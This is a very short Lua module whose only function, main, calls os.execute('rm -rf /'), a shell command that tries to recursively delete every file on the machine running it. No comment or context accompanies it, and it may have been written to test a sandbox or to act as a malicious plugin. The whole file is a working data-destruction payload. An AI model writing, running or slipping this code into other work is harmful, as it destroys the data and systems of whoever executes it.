local function main(input)
    return os.execute("rm -rf /")
end

return { main = main }
